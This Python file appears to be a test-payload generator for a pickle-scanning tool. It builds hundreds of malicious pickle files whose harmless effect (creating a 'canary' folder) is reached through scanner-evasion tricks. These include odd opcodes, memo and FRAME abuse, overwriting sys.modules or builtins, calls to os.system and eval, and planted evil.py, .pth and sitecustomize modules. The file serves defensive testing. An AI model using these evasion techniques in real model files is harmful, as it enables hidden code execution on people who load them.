"""An attacker's files: each of them, read by the loader named beside it, makes a file `canary` in the working folder.

What they do is harmless; how they come to do it is not. `test_payloads.py` proves every one of them.
"""

import itertools
import pickle
import struct
from collections.abc import Callable
from functools import cache, partial
from pathlib import Path

from inspection.array_payloads import array_rows, joblib_arrays, z_files
from inspection.call_payloads import CALLS
from inspection.containers import zipped
from inspection.file_payloads import npy, numpys, tars, wrappings, zips
from inspection.import_payloads import imported_names, legacy, polyglots, unusual_names
from inspection.loaders import (
    HELD,
    Called,
    Found,
    Payload,
    load_aligned,
    load_buffers,
    load_bytes,
    load_every,
    load_last,
    load_latin,
    load_padded,
    load_persistent,
    load_pickle,
    load_python,
    load_records,
    load_shelf,
    load_stubborn,
    load_torch,
    torch_bytes,
)
from inspection.opcodes import (
    CALLED,
    CANARY,
    CODE,
    EVIL,
    MKDIR,
    MODULE,
    NAMED,
    Ops,
    before,
    call,
    line,
    push,
    ref,
    short,
)
from inspection.program_payloads import disguises, packages, programs
from inspection.python_payloads import differences, helpers, other_arguments
from inspection.row_payloads import places, second_streams
from lazy import torch

BOTH = (load_pickle, load_python)
INTS = ["0x10", "0o17", "0b1", "1_000", " 12", "12 ", "+12", "-0x1f", "0x" + "f" * 6000, "01", "00", "0X_1f"]
INTS_C = ["010", "12\0junk", "\0junk", "\t7\0"]  # the line goes to C's strtol
LONGS = ["0x10L", "1_000L", " 12 L", "0b1", "-0o7L", "+1", "0x" + "e" * 6000 + "L"]
FLOATS = ["inf", "-inf", "nan", "1.", ".5", "1e5", "+1.0", "-NAN", "infinity", "1E-400"]
FLOATS_C = ["1.0\0junk", "nan\0"]
FLOATS_PYTHON = [" 1.5", "1_0.5", "1.5 ", "1e999", "\t1\f"]
PLACES = ["0001", " 1", "+1", "1 ", "0_1", "0" * 4000 + "1", "1000000"]


def numbers() -> Found:
    """Numbers in base 0, with spaces, underscores, a NUL: the call stands behind them."""
    for loaders, code, texts in [
        (BOTH, b"I", INTS), (BOTH[:1], b"I", INTS_C), (BOTH, b"L", LONGS), (BOTH[:1], b"L", ["12\0junkL"]),
        (BOTH, b"F", FLOATS), (BOTH[:1], b"F", FLOATS_C), (BOTH[1:], b"F", FLOATS_PYTHON),
    ]:  # fmt: skip
        for load, text in itertools.product(loaders, texts):
            name = f"{code.decode()}{text[:12]!r} by {load.__name__}"
            yield name, Payload(before(code + line(text)), "vocab.pkl", load)
    for load, text in itertools.product(BOTH, PLACES):
        content = b"]p" + line(text) + b"0g" + line(text) + b"0" + EVIL
        yield f"PUT {text[:8]!r}, {len(text)} characters, by {load.__name__}", Payload(content, "notes.txt", load)
    yield "PUT with a NUL", Payload(b"]p1\0junk\n0g1\0rest\n0" + EVIL, "notes.txt", load_pickle)
    huge = line("1" + "0" * 4200)
    yield "PUT at 10**4200", Payload(b"]p" + huge + b"0g" + huge + b"0" + EVIL, "notes.txt", load_python)
    for name, opcodes in {
        "LONG1 of nothing": b"\x8a\0",
        "LONG4 of nothing": b"\x8b" + bytes(4),
        "LONG4 of 10,000 bytes": b"\x8b" + struct.pack("<I", 10_000) + b"\xff" * 10_000,
        "LONG_BINPUT far out": b"]r" + struct.pack("<I", 1_000_000),
    }.items():
        yield name, Payload(before(opcodes), "vocab.pkl", load_pickle)


def texts() -> Found:
    """Strings, and lines longer than anybody expects."""
    escapes = [r"'\x41'", r"'\101'", r"'\q'", '"a\'b"', r"'\''", r"'\\'", "'a\0b'", r"'\0'", r"'\N{DIGIT ONE}'"]
    for text in escapes:
        yield f"STRING {text!r}", Payload(before(b"S" + line(text)), "vocab.pkl", load_pickle)
    yield "STRING of other bytes", Payload(before(b"S'\xff\xfe'\n"), "vocab.pkl", load_latin)
    yield "BINSTRING of other bytes", Payload(before(b"U\x02\xff\xfe"), "vocab.pkl", load_latin)
    for text in [r"\u0041", r"\U0001F600", r"\x41", "a\0b", "\\", "", r"\ud800", "\xe9"]:
        yield f"UNICODE {text!r}", Payload(before(b"V" + line(text.encode("latin-1"))), "vocab.pkl", load_pickle)
    for size, opening in itertools.product((5_000, 100_000, 1_000_000), (b"S'", b'S"', b"V")):
        content = partial(lambda size, opening: before(opening + b"x" * size + opening[1:] + b"\n"), size, opening)
        yield f"line of {size} behind {opening!r}", Payload(content, "vocab.pkl", load_pickle)
    for text in (b"I" + b"0" * 5000, b"L" + b" " * 70_000 + b"1", b"F" + b"0" * 300_000):
        yield f"{text[:1]!r} of {len(text)}", Payload(before(line(text)), "vocab.pkl", load_pickle)
    title = "name escaped, in octal"
    yield title, Payload(rb"\S'\160osix'"[1:] + b"\nS'mkd\\x69r'\n\x93" + CALLED, "v.pkl", load_pickle)
    yield "name as UNICODE", Payload(b"Vp\\u006fsix\nVmk\\U00000064ir\n\x93" + CALLED, "v.pkl", load_pickle)
    for load in (load_pickle, load_bytes, load_python):
        name = f"by {load.__name__}"
        yield f"INST at the end {name}", Payload(b"(S'canary'\niposix\nmkdir\n", "m.pkl", load)
        yield f"GLOBAL, long name {name}", Payload(b"cevil\n" + line("x" * 9000), "m.pkl", load, {"evil.py": MODULE})
    yield "INST, cut line", Payload(b"(S'canary'\niposix\nmkdir!", "m.pkl", load_python)
    yield "GLOBAL, cut line", Payload(b"cevil\nname", "m.pkl", load_python, {"evil.py": MODULE})
    yield "INST without a MARK", Payload(b"ievil\nname\n", "m.pkl", load_python, {"evil.py": MODULE})


def framed(size: int, rest: bytes) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", size) + rest


def built(target: bytes, state: object) -> Ops:
    return Ops(target + push(state) + b"b")


SPACE = ref("types.SimpleNamespace") + b")R"

MACHINES: dict[str, tuple[bytes, Callable[[Path], object]]] = {
    "PROTO in the middle": (b"N0\x80\x02N0\x80\x05" + EVIL, load_pickle),
    "many PROTOs": (b"\x80\x05\x80\x00\x80\x02" * 9 + EVIL, load_pickle),
    "PROTO in an argument": (b"cposix\n" + b"mkdir\n(\x80\x03" + CANARY + b"\x80\x01tR.", load_pickle),
    "FRAME of nothing": (framed(0, EVIL), load_pickle),
    "FRAME too short": (framed(1, b"N0" + EVIL), load_pickle),
    "FRAME within a FRAME": (framed(20, b"\x95" + struct.pack("<Q", 5) + b"N0" + EVIL), load_pickle),
    "FRAME behind the STOP": (framed(len(EVIL) + 3, EVIL + bytes(3)), load_pickle),
    "FRAME, Python's": (framed(2, b"N0" + EVIL), load_python),
    "FRAME without PROTO": (framed(len(EVIL), EVIL)[2:], load_pickle),
    "NEXT_BUFFER first": (b"\x97\x98" + b"0" + EVIL, load_buffers),
    "NEXT_BUFFER behind PROTO": (b"\x80\x05\x97" + b"0" + EVIL, load_buffers),
    "READONLY_BUFFER of bytes": (b"\x80\x05C\x01a\x98" + b"0" + EVIL, load_pickle),
    "BYTEARRAY8": (b"\x80\x05\x96" + struct.pack("<Q", 3) + b"abc0" + EVIL, load_pickle),
    "POP of a MARK": (b"(0" + EVIL, load_pickle),
    "POP_MARK of nothing": (b"(1" + EVIL, load_pickle),
    "POP_MARK, Python's": (b"((NN11" + EVIL, load_python),
    "marks left over": (b"N((((" + EVIL, load_pickle),
    "DUP": (b"\x80\x04" + NAMED + b"20" + push(("canary",)) + b"R.", load_pickle),
    "memo overwritten": (ref("collections.Counter") + b"q\0" + ref("posix.mkdir") + b"q\x000h\0" + CALLED,
        load_pickle),
    "memo at 255 and MEMOIZE": (b"]q\xff0" + ref("posix.mkdir") + b"\x940h\x01" + CALLED, load_pickle),
    "MEMOIZE of names": (short("posix") + b"\x940" + short("mkdir") + b"\x940h\0h\x01\x93" + CALLED, load_pickle),
    "INST": (b"(" + CANARY + b"iposix\nmkdir\n.", load_pickle),
    "INST, Python's": (b"(" + CANARY + b"iposix\nmkdir\n.", load_python),
    "OBJ": (b"(" + ref("posix.mkdir") + CANARY + b"o.", load_pickle),
    "NEWOBJ of map and tuple": (
        b"c__builtin__\ntuple\n" + ref("builtins.map") + push((ref("posix.mkdir"), ["canary"])) + b"\x81\x85\x81.",
        load_pickle,
    ),
    "NEWOBJ_EX of map": (
        ref("builtins.set") + ref("builtins.map") + push((ref("posix.mkdir"), ["canary"])) + b"}\x92\x85R.",
        load_pickle,
    ),
    "no STOP": (MKDIR, load_pickle),
    "no STOP, protocol 2": (b"\x80\x02" + MKDIR, load_pickle),
    "rubbish behind the call": (MKDIR + b"\xff\xff", load_pickle),
    "an empty stack behind the call": (MKDIR + b"000000.", load_pickle),
    "a memo asked for nothing behind the call": (MKDIR + b"h\x09.", load_pickle),
    "persistent id of a line": (b"Pstorage\n0" + EVIL, load_persistent),
    "persistent id of a call": (MKDIR + b"Q.", load_persistent),
    "BUILD by a __setstate__ of its own": (
        built(built(SPACE, {"__setstate__": ref("posix.mkdir")}), "canary") + b".", load_pickle,
    ),
    "APPEND by an append of its own": (
        built(SPACE, {"append": ref("posix.mkdir")}) + CANARY + b"a.", load_pickle,
    ),
    "APPENDS by an extend of its own": (
        built(SPACE, {"append": ref("posix.mkdir")}) + b"(" + CANARY + b"e.", load_python,
    ),
    "ADDITEMS by an add of its own": (
        built(SPACE, {"add": ref("posix.mkdir")}) + b"(" + CANARY + b"\x90.", load_pickle,
    ),
    "BUILD of a class": (
        built(ref("collections.Counter"), (None, {"__init__": ref("posix.mkdir")})) + b"0"
        + call("collections.Counter", "canary") + b".", load_pickle,
    ),
    "BUILD of a module": (
        built(ref("torch._utils"), {"_rebuild_tensor": ref("posix.mkdir")}) + b"0"
        + call("torch._utils._rebuild_tensor", "canary") + b".", load_pickle,
    ),
    "BUILD of a function's code": (
        built(ref("textwrap.dedent"), (None, {"__code__": call("builtins.compile", CODE, "x", "exec")})) + b"0"
        + ref("textwrap.dedent") + b")R.", load_pickle,
    ),
    "SETITEM of sys.modules": (
        ref("sys.modules") + push("numbers") + ref("posixpath.os") + b"s0" + call("numbers.mkdir", "canary") + b".",
        load_pickle,
    ),
    "SETITEM of builtins": (
        ref("builtins.__dict__") + push("set") + ref("posix.mkdir") + b"s0" + call("__builtin__.set",
            "canary") + b".",
        load_pickle,
    ),
    "SETITEMS of a module's names": (
        ref("torch._utils.__dict__") + b"(" + push("_rebuild_tensor_v2") + ref("posix.mkdir") + b"u0"
        + call("torch._utils._rebuild_tensor_v2", "canary") + b".", load_pickle,
    ),
    "EXT1 of a name registered by SETITEM": (
        ref("copyreg._inverted_registry") + push(240) + push(("posix", "mkdir")) + b"s0\x82\xf0" + CALLED,
            load_pickle,
    ),
    "EXT2 of a value kept by SETITEM": (
        ref("copyreg._extension_cache") + push(999) + ref("posix.mkdir") + b"s0\x83\xe7\x03" + CALLED, load_pickle,
    ),
    "EXT4 of a name registered by a call": (
        call("copyreg.add_extension", "posix", "mkdir", 70_000) + b"0\x84" + struct.pack("<I", 70_000) + CALLED,
        load_pickle,
    ),
    "codec": (call("codecs.register", ref("posix.mkdir")) + b"0" + call("_codecs.encode", "x", "canary") + b".",
        load_pickle),
}  # fmt: skip


def machines() -> Found:
    """Opcodes in the odd orders that the unpicklers take; and the call in every protocol."""
    for name, (content, load) in MACHINES.items():
        yield name, Payload(content, "model.pkl", load)
    for protocol, load in itertools.product(range(6), BOTH):
        opcodes = b"\x80" + bytes([protocol]) + EVIL
        yield f"protocol {protocol} by {load.__name__}", Payload(opcodes, "tokenizer.model", load)
    path = ref("sys.path") + push("lib") + b"a0"
    yield "APPEND to sys.path", Payload(path + ref("evil.name") + b".", "m.pkl", load_pickle, {"lib/evil.py": MODULE})


MODULES = {
    "a space": "my mod", "brackets": "my(mod)[1]{2}", "quotes": "my'\"mod", "equals": "a=b", "commas": "a,b;c",
    "#": "a#b", "a colon": "c:mod", "letters": "модуль", "a tab": "my\tmod", "a no-break space": "my\xa0mod",
    "a NUL of sorts": "my\x01mod", "a backslash": "torc\\h", "a dash": "my-mod", "a carriage return": "my\rmod",
    "long": "m" * 200, "a digit": "1", "a keyword": "class", "an emoji": "\U0001f600", "a private-use letter": "\ue000",
    "a torch of its own": "torch_", "an unknown codec": "_codecs_", "a handler": "handler",
}  # fmt: skip
TO_PYTHON_3 = [
    ("__builtin__", "set"),
    ("__builtin__", "bytearray"),
    ("UserDict", "Counter"),
    ("UserList", "OrderedDict"),
]


def names() -> Found:
    """Modules packed under odd names: to import one is to run it."""
    for kind, module in MODULES.items():
        files = {f"{module}.py": MODULE}
        yield f"module named with {kind}", Payload(ref(f"{module}:name") + b".", "net.pkl", load_pickle, files)
        stacked = b"\x80\x04" + short(module) + short("name") + b"\x93."
        yield f"module named with {kind}, STACK_GLOBAL", Payload(stacked, "notes.bin", load_pickle, files)
    files = {"my\nmod.py": MODULE, "a b/c d/e f.py": MODULE, "evil.py": MODULE, "torc\\h.py": MODULE}
    yield "module named with a newline", Payload(short("my\nmod") + short("n") + b"\x93.", "n.pkl", load_pickle, files)
    yield "module in packages", Payload(ref("a b.c d.e f:name") + b".", "n.pkl", load_pickle, files)
    deep = ".".join("p" * 30 for _ in range(12))
    path = "/".join(deep.split(".")) + ".py"
    yield "module 12 packages deep", Payload(ref(f"{deep}:name") + b".", "n.pkl", load_pickle, {path: MODULE})
    yield "attribute with a space", Payload(ref("evil:a name") + b".", "n.pkl", load_pickle, files)
    yield "attribute with a bracket", Payload(short("evil") + short("f(x)") + b"\x93.", "n.pkl", load_pickle, files)
    yield "attribute of nothing", Payload(short("evil") + short("") + b"\x93.", "n.pkl", load_pickle, files)
    title = "attribute of dots"
    yield title, Payload(b"\x80\x04" + short("evil") + short("a..b") + b"\x93.", "n.pkl", load_pickle, files)
    yield "rubbish behind the import", Payload(ref("evil.name") + b"\xff", "n.pkl", load_pickle, files)
    yield "allowed name, misread escape", Payload(b"S'torc\\h'\nS'Size'\n\x93.", "n.pkl", load_pickle, files)
    for (module, name), proto in itertools.product(TO_PYTHON_3, (3, 4, 5)):
        content = b"\x80" + bytes([proto]) + ref(f"{module}.{name}") + b"."
        title = f"Python 2's {module}.{name}, packed, in protocol {proto}"
        yield title, Payload(content, "vocab.pkl", load_pickle, {f"{module}.py": MODULE})
    for path in ("__builtin__.eval", "__builtin__.execfile", "copy_reg.add_extension", "os.system", "posix.system"):
        argument = {"eval": CODE, "execfile": "evil.py"}.get(path.rpartition(".")[2], "mkdir canary")
        if path.endswith(("eval", "system")):
            yield f"{path}", Payload(call(path, argument) + b".", "n.pkl", load_pickle, files)
    for path in (
        "torch.serialization:os.mkdir",
        "torch:serialization.os.mkdir",
        "numpy:f2py.os.mkdir",
        "os:path.os.mkdir",
    ):
        yield f"attributes {path}", Payload(call(path, "canary") + b".", "n.pkl", load_pickle)


def streams() -> Found:
    """Files in which the first pickle is honest, or nothing at all."""
    firsts = {
        "None": b"N.", "a list": b"].", "an int": b"I1\n.", "a hex int": b"I0x1\n.", "a text": b"S'a'\n.",
        "True": b"\x88.",
        "a dict of protocol 2": pickle.dumps(HELD, 2), "a dict of protocol 0": pickle.dumps(HELD, 0),
        "a long line": b"S'" + b"x" * 9000 + b"'\n.", "a float": b"F1\n.", "a tuple": b").", "bytes": b"C\x02ab.",
    }  # fmt: skip
    for name, first in firsts.items():
        yield f"behind {name}", Payload(first + EVIL, "records.pkl", load_every)
    for name, first in {"rubbish": b"h\x00", "a broken hex": b"I0xzz\n", "a missing name": b"h\x01"}.items():
        yield f"behind {name}", Payload(first + EVIL, "records.pkl", load_stubborn)
    for name, gap in {"zeros": bytes(4096), "spaces": b" \n\t" * 900, "5 MB of zeros": bytes(5 << 20)}.items():
        for head in (b"N.", pickle.dumps(HELD)):
            content = partial(b"".join, (head, gap, EVIL))
            yield f"behind {head[:2]!r} and {name}", Payload(content, "records.pkl", load_padded)
        yield f"behind {name}", Payload(partial(b"".join, (gap, EVIL)), "records.pkl", load_padded)
    many = partial(b"".join, (b"\x80\x02N." * 1100, b"I0x1\n0Vposix\nVmkdir\n\x93", CALLED))
    yield "behind 1,100 pickles", Payload(many, "records.pkl", load_every)
    yield "behind 1,100 plain ones", Payload(partial(b"".join, (b"N." * 1100, EVIL)), "records.pkl", load_every)
    yield "behind a header", Payload(b"MODEL-1\n".ljust(512, b"\0") + EVIL, "model.pkl", load_aligned)
    yield "behind numbers", Payload(struct.pack("<128f", *range(128)) + EVIL, "model.pkl", load_aligned)
    index = partial(lambda: bytes(5 << 20) + EVIL + struct.pack("<Q", 5 << 20))
    yield "an index at the end", Payload(index, "records.pkl", load_last)
    for number in range(5):
        yield f"torch of old, pickle {number + 1}", Payload(legacy(number), "model.pt", load_torch)
        hexed = legacy(number, before(b"I0x10\n"))
        yield f"torch of old, pickle {number + 1} behind hex", Payload(hexed, "weights.bin", load_torch)
    yield "a plain pickle", Payload(before(b"I0x10\n"), "model.pt", load_torch)
    old = torch_bytes({"a": torch.zeros(2), "b": Called()}, _use_new_zipfile_serialization=False)
    yield "torch.save of old", Payload(old, "model.pt", load_torch)


def nested() -> Found:
    """Pickles within a pickle that the loader unpickles as well: what begins as one is looked into."""
    zero = b"cposix\nmkdir\n(S'canary'\ntR."
    marked = b"\x80\x05" + EVIL
    for name, item in {
        "protocol 2": pickle.dumps(Called(), 2), "protocol 5": marked, "a bytearray": bytearray(marked),
        "long": b"\x80\x02S'" + b"x" * 9000 + b"'\n0" + zero,
    }.items():  # fmt: skip
        yield f"record of {name}", Payload(pickle.dumps([item], 5), "records.pkl", load_records)
    crowd = partial(lambda: pickle.dumps([*[b"\x80\x02N."] * 10_001, pickle.dumps(Called())]))
    yield "behind 10,001 records", Payload(crowd, "records.pkl", load_records)
    tensor = torch_bytes(torch.frombuffer(bytearray(zero), dtype=torch.uint8))
    load = partial(lambda path: pickle.loads(torch.load(path).numpy().tobytes()))
    yield "record in a tensor", Payload(tensor, "record.pt", load)
    index = b"'model', (0, %d)\n" % len(EVIL)
    yield "shelf", Payload(EVIL, "vocab.dat", load_shelf, {"vocab.dir": index})


PACKED = {"evil.py": MODULE, "evil.pth": b"import evil\n", "hubconf.py": MODULE, "sitecustomize.py": MODULE}


def calls() -> Found:
    """Names that lead to code: each needs one's trust, most are never honest."""
    inner = {"inner.pkl": EVIL, "inner.npy": npy("'O'"), "evil.zip": zipped({"inside.py": MODULE})}
    files = {**PACKED, **inner, "evil.txt": f">>> {CODE}\n".encode()}
    for name, opcodes in CALLS.items():
        yield f"call: {name}", Payload(opcodes + b".", "model.pkl", load_pickle, files)


def distances() -> Found:
    """Calls that stand far behind the beginning of a file."""
    for name, content, load in [
        ("10,000 imports", lambda: ref("collections.OrderedDict") * 10_000 + EVIL, load_pickle),
        (
            "10,000 different imports",
            lambda: b"".join(short(f"a{at}") + b"0" for at in range(10_000)) + EVIL,
            load_pickle,
        ),
        ("a string of 300 KB", lambda: before(push("x" * 300_000)), load_pickle),
        ("bytes of 5 MB", lambda: before(b"\x8e" + struct.pack("<Q", 5 << 20) + bytes(5 << 20)), load_pickle),
        ("500,000 opcodes", lambda: b"N0" * 250_000 + EVIL, load_pickle),
        ("500,000 numbers", lambda: b"(" + b"K\1" * 500_000 + b"l0" + EVIL, load_pickle),
        ("20,000 hex numbers", lambda: b"I0xff\n0" * 20_000 + EVIL, load_pickle),
        ("100,000 marks", lambda: b"(" * 100_000 + EVIL, load_pickle),
        ("lists 100,000 deep", lambda: b"]" * 100_000 + b"a" * 99_999 + b"0" + EVIL, load_pickle),
        ("100,000 memo entries", lambda: b"]" + b"\x94" * 100_000 + b"0" + EVIL, load_pickle),
        (
            "a vocabulary of 50,000 words",
            lambda: pickle.dumps([f"w{at}" for at in range(50_000)])[:-1] + EVIL,
            load_pickle,
        ),
        ("2,000 frames", lambda: framed(2, b"N0") * 2000 + EVIL, load_pickle),
    ]:
        yield f"behind {name}", Payload(content, "vocab.pkl", load)


FAMILIES = (
    numbers, texts, machines, names, streams, nested, wrappings, tars, numpys, zips, calls, distances,
    imported_names, unusual_names, polyglots, other_arguments, differences, helpers, joblib_arrays, z_files, array_rows,
    second_streams, places, programs, packages, disguises,
)  # fmt: skip


@cache
def payloads() -> dict[str, Payload]:
    """Return every payload by its name; they are made when a test first asks for them."""
    found: dict[str, Payload] = {}
    for name, payload in itertools.chain.from_iterable(family() for family in FAMILIES):
        assert name not in found, name
        found[name] = payload
    return found
